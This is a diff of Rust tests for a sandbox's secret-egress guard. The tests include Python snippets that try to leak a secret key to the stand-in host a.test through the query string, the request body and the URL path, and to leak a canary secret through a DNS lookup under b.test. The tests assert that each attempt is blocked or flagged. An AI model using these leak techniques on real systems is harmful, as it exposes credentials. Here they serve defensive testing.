@@ -195,8 +195,7 @@ fn query_and_body_have_it_only_where_that_was_asked() {
         "print(ask('{url}?k=' + key))\nprint(ask('{url}', data=b'k=' + key.encode()))\nprint(ask('{url}/' + key))"
     ));
     let told = hall.run("key@a.test", &code);
-    let refused =
-        "403 belljar: the placeholder of key (not in a header inside TLS) may not go to a.test";
+    let refused = "403 belljar: the placeholder of key (only in a header that authorizes, inside TLS) may not go to a.test";
     assert_eq!(told.stdout.lines().collect::<Vec<_>>(), [refused; 3], "{told:#?}");
     assert_eq!(refusal(&told, "placeholder").count, 3);
     assert!(hall.heard().iter().all(|one| !one.contains("bjph_")), "{:?}", hall.heard());
@@ -390,7 +389,10 @@ while True:
     hall.host.set("key", second);
     assert_eq!(running.read_line().trim(), digest(second));
     drop(running);
-    let code = asking(&format!("print(key); print(ask('{}', A=key))", hall.url("a.test", "/y")));
+    let code = asking(&format!(
+        "print(key); print(ask('{}', Authorization=key))",
+        hall.url("a.test", "/y")
+    ));
     let exec = || hall.ok(&["sandbox", "exec", "box", "--", "python3", "-c", &code]).out();
     let before = exec();
     hall.ok(&["sandbox", "stop", "box"]);
@@ -441,4 +443,18 @@ fn digest(text: &str) -> String {
     let code = "import hashlib, sys; print(hashlib.sha256(sys.argv[1].encode()).hexdigest()[:12])";
     let python = belljar_tests::Program::new("/usr/bin/python3");
     python.args(["-c", code, text]).run().out().trim().to_owned()
+}
+
+#[test]
+fn decoy_in_a_name_that_is_asked_for_is_critical() {
+    let hall = Hall::new();
+    let code = "import os, socket\ntry: socket.getaddrinfo(os.environ['BAIT'] + '.b.test', 80)\n\
+                except OSError: print('unknown')";
+    let arguments = ["run", "--json", "--egress", "@test", "--secret", "bait=canary:BAIT"];
+    let told = outcome(&hall.ok(&[&arguments[..], &["-c", code]].concat()));
+    assert_eq!(told.stdout, "unknown\n", "{told:#?}");
+    assert_eq!(refusal(&told, "canary").severity, Severity::Critical, "{told:#?}");
+    let control = code.replace("os.environ['BAIT']", "'x' * 40");
+    let told = outcome(&hall.ok(&[&arguments[..], &["-c", &control]].concat()));
+    assert!(told.events.iter().all(|one| one.rule != "egress/canary"), "{told:#?}");
 }
